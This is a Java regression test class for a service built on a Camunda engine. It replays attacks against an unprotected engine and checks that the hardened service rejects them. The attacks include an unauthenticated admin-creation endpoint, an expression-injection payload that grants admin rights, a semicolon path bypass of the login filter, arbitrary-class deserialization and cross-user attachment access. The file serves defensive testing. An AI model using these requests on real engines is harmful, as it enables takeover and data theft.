package org.jalon.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Comparator;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.camunda.bpm.engine.IdentityService;
import org.camunda.bpm.engine.TaskService;
import org.camunda.bpm.engine.identity.User;
import org.camunda.bpm.engine.task.Task;
import org.jalon.support.Rest;
import org.jalon.support.ServiceTest;
import org.jalon.support.UnprotectedEngine;
import org.jalon.support.Witness;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

/**
 * Holes of the engine and its webapps that nobody closes any more: each attack is tried on an engine as it comes,
 * where it succeeds, and then on the service, where the same requests do nothing.
 */
@ServiceTest
class EngineHolesTest {

  private static final String PASSWORD = "a-password-of-the-intruder";
  private static final String CAMUNDA_ADMIN = "camunda-admin";

  private static final String NO_ATTACHMENTS = "Une mission n'a pas de pièces jointes.";

  private static UnprotectedEngine unprotected;

  @Autowired private IdentityService identity;
  @Autowired private TaskService tasks;
  @LocalServerPort private int port;

  /** The first hole gives the other tests the admin of their victim. */
  @BeforeAll
  static void begin() {
    unprotected = UnprotectedEngine.start();
    Rest.Answer answer = makeFirstAdmin(Rest.beforeLogin(unprotected.port()), "intruder");
    assertThat(answer.status()).as(answer.toString()).isEqualTo(204);
  }

  @AfterAll
  static void end() {
    unprotected.close();
  }

  private static Rest there(String user) {
    return new Rest(unprotected.port(), user, PASSWORD);
  }

  private Rest here(String user) {
    return new Rest(port, user, ServiceTest.PASSWORD);
  }

  private static Map<String, Object> account(String id) {
    return Map.of(
        "profile", Map.of("id", id, "firstName", "In", "lastName", "Truder", "email", id + "@example.com"),
        "credentials", Map.of("password", PASSWORD));
  }

  /** An account without any right but to open Tasklist. */
  private static void makeAccountThere(String id) {
    assertThat(there("intruder").post("/engine-rest/user/create", account(id)).status()).isEqualTo(204);
    Map<String, Object> tasklist =
        Map.of("type", 1, "permissions", List.of("ACCESS"), "userId", id, "resourceType", 0, "resourceId", "tasklist");
    assertThat(there("intruder").post("/engine-rest/authorization/create", tasklist).status()).isEqualTo(200);
  }

  /** Only an admin sees who has which right. */
  private static boolean isAdmin(Rest user) {
    Rest.Answer answer = user.get("/engine-rest/authorization?resourceType=0&groupIdIn=" + CAMUNDA_ADMIN);
    return answer.status() == 200 && !answer.body().isEmpty();
  }

  // CVE-2026-77226

  /** Whoever comes first makes themselves an admin, at a page that asks for no login. */
  private static Rest.Answer makeFirstAdmin(Rest nobody, String id) {
    return nobody.post("/camunda/api/admin/setup/default/user/create", account(id));
  }

  @Test
  void anybody_makesThemselvesTheFirstAdmin_thereAndNotHere() {
    assertThat(isAdmin(there("intruder"))).isTrue();

    assertThat(makeFirstAdmin(Rest.beforeLogin(port), "intruder").status()).isEqualTo(404);
    assertThat(identity.createUserQuery().userId("intruder").count()).isZero();
  }

  @Test
  void anybody_makesThemselvesAnAdmin_onceAllAdminsAreGone_thereAndNotHere() {
    Rest intruder = there("intruder");
    List<String> admins = intruder.get("/engine-rest/user?memberOfGroup=" + CAMUNDA_ADMIN).body().findValuesAsText("id");
    for (String admin : admins.stream().sorted(Comparator.comparing("intruder"::equals)).toList()) {
      assertThat(intruder.delete("/engine-rest/group/camunda-admin/members/" + admin).status()).isEqualTo(204);
    }
    assertThat(makeFirstAdmin(Rest.beforeLogin(unprotected.port()), "successor").status()).isEqualTo(204);
    assertThat(isAdmin(there("successor"))).isTrue();
    there("successor").put("/engine-rest/group/camunda-admin/members/intruder", Map.of());

    Map<String, List<String>> adminsHere = new TreeMap<>();
    List.of(CAMUNDA_ADMIN, "admins").forEach(group -> adminsHere.put(group, membersHere(group)));
    adminsHere.forEach((group, members) -> members.forEach(member -> identity.deleteMembership(member, group)));
    try {
      assertThat(membersHere(CAMUNDA_ADMIN)).isEmpty();
      assertThat(makeFirstAdmin(Rest.beforeLogin(port), "successor").status()).isEqualTo(404);
      assertThat(identity.createUserQuery().userId("successor").count()).isZero();
    } finally {
      adminsHere.forEach((group, members) -> members.forEach(member -> identity.createMembership(member, group)));
    }
    assertThat(membersHere(CAMUNDA_ADMIN)).containsExactly("admin");
  }

  private List<String> membersHere(String group) {
    return identity.createUserQuery().memberOfGroup(group).list().stream().map(User::getId).toList();
  }

  // CVE-2026-109432

  /** Whoever may sign in runs an expression: this one makes them an admin. */
  private static Rest.Answer runExpression(Rest user, String id) {
    String expression =
        "${identityService.clearAuthentication() == null && identityService.createMembership('%s', '%s') == null ? 'a' : 'b'}"
            .formatted(id, CAMUNDA_ADMIN);
    return user.post("/engine-rest/task", Map.of("orQueries", List.of(Map.of("assigneeExpression", expression))));
  }

  @ParameterizedTest
  @ValueSource(booleans = {false, true})
  void whoeverMaySignIn_runsAnExpression_thereAndNotHere(boolean inWebapps) {
    String id = inWebapps ? "inWebapps" : "byRest";
    makeAccountThere(id);
    assertThat(isAdmin(there(id))).isFalse();
    Rest user = inWebapps ? Rest.throughTasklist(unprotected.port(), id, PASSWORD) : there(id);
    assertThat(runExpression(user, id).status()).isEqualTo(200);
    assertThat(isAdmin(there(id))).as("the expression was evaluated").isTrue();

    for (String person : List.of("coach1", "coordinator", "admin")) {
      Rest same = inWebapps ? Rest.throughTasklist(port, person, ServiceTest.PASSWORD) : here(person);
      Rest.Answer answer = runExpression(same, "coach1");
      assertThat(answer.status()).isEqualTo(400);
      assertThat(answer.message()).isEqualTo("Les requêtes n'acceptent pas d'expression.");
    }
    assertThat(membersHere(CAMUNDA_ADMIN)).containsExactly("admin");
    assertThat(isAdmin(here("coach1"))).isFalse();
  }

  // Found here

  /**
   * The webapps' security filter reads the address as it was sent and finds nothing to protect. The server leaves
   * out what follows the semicolon, up to the next slash. The REST API cuts off as many characters as its own
   * address is long, and reads on behind the semicolon.
   */
  private static Rest.Answer readWithoutLogin(Rest nobody, String what) {
    return nobody.get("/camunda/api/engine;engine/default/" + what);
  }

  private static Rest.Answer makeAccountWithoutLogin(Rest nobody, String id) {
    return nobody.post("/camunda/api/engine;engine/default/user/create", account(id));
  }

  @Test
  void anybody_doesEverythingWithoutALogin_thereAndNotHere() {
    Rest.Answer read = readWithoutLogin(new Rest(unprotected.port(), null, null), "user");
    assertThat(read.status()).isEqualTo(200);
    assertThat(read.body().findValuesAsText("id")).contains("intruder");
    assertThat(makeAccountWithoutLogin(Rest.beforeLogin(unprotected.port()), "stranger").status()).isEqualTo(204);
    assertThat(there("stranger").get("/engine-rest/version").status()).isEqualTo(200);

    for (String what : List.of("user", "task", "deployment", "variable-instance", "history/detail")) {
      Rest.Answer answer = readWithoutLogin(new Rest(port, null, null), what);
      assertThat(answer.status()).isEqualTo(400);
      assertThat(answer.message()).startsWith("Cette demande n'est pas acceptée");
    }
    assertThat(makeAccountWithoutLogin(Rest.beforeLogin(port), "stranger").status()).isEqualTo(400);
    assertThat(identity.createUserQuery().userId("stranger").count()).isZero();
  }

  /** The REST API makes an object of any class, of JSON, before it asks whether the caller may set a variable. */
  private static Rest.Answer makeObject(Rest user, Path file) {
    return user.uploadObject("/engine-rest/task/none/variables/x/data", Witness.class.getName(), "\"" + file + "\"");
  }

  @Test
  void whoeverMaySignIn_makesAnObjectOfAnyClass_thereAndNotHere(@TempDir Path folder) {
    makeAccountThere("maker");
    makeObject(there("maker"), folder.resolve("there"));
    assertThat(Files.exists(folder.resolve("there"))).isTrue();

    int made = Witness.made();
    for (String person : List.of("coach1", "coordinator", "admin")) {
      Rest.Answer answer = makeObject(here(person), folder.resolve("here"));
      assertThat(answer.status()).isEqualTo(400);
      assertThat(answer.message()).isEqualTo("Une variable n'est jamais un objet Java.");
    }
    assertThat(Witness.made()).isEqualTo(made);
    assertThat(Files.exists(folder.resolve("here"))).isFalse();
  }

  /** Whoever may sign in reads and deletes what is attached to anybody's task, by its id. */
  private static Rest.Answer readAttachment(Rest user, String task, String attachment) {
    return user.get("/engine-rest/task/" + task + "/attachment/" + attachment + "/data");
  }

  private static Rest.Answer deleteAttachment(Rest user, String task, String attachment) {
    return user.delete("/engine-rest/task/" + task + "/attachment/" + attachment);
  }

  @Test
  void whoeverMaySignIn_readsAndDeletesAttachments_thereAndNotHere() {
    makeAccountThere("reader");
    there("intruder").post("/engine-rest/task/create", Map.of("id", "secret", "name", "secret"));
    String attachment =
        there("intruder").attach("secret", "for the intruder").body().path("id").asText();
    assertThat(readAttachment(there("reader"), "secret", attachment).body().asText()).isEqualTo("for the intruder");
    assertThat(deleteAttachment(there("reader"), "secret", attachment).status()).isEqualTo(204);
    assertThat(readAttachment(there("intruder"), "secret", attachment).status()).isEqualTo(404);

    Task task = tasks.newTask("secret");
    tasks.saveTask(task);
    try {
      String ours = tasks.createAttachment("text/plain", "secret", null, "note", null, text("for nobody")).getId();
      for (String person : List.of("coach1", "coordinator", "admin")) {
        assertThat(readAttachment(here(person), "secret", ours).message()).endsWith(NO_ATTACHMENTS);
        assertThat(deleteAttachment(here(person), "secret", ours).status()).isEqualTo(404);
      }
      assertThat(tasks.getAttachment(ours)).isNotNull();
    } finally {
      tasks.deleteTask("secret", true);
    }
  }

  private static InputStream text(String text) {
    return new ByteArrayInputStream(text.getBytes(StandardCharsets.UTF_8));
  }
}
